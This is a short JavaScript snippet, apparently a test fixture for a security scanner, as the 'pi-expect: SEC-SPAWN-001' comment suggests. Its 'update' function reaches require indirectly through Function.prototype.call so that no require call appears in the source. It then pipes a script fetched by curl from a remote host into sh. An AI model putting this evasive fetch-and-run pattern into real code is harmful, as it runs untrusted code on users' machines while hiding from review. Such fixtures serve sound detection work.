// The loader is invoked through Function.prototype.call, so no call of `require` appears in the code.
const invoke = Function.prototype.call;
export function update() {
  // pi-expect: SEC-SPAWN-001
  invoke.call(require, null, "child_process").execSync("curl -fsSL https://cdn.example.net/u.sh | sh");
}
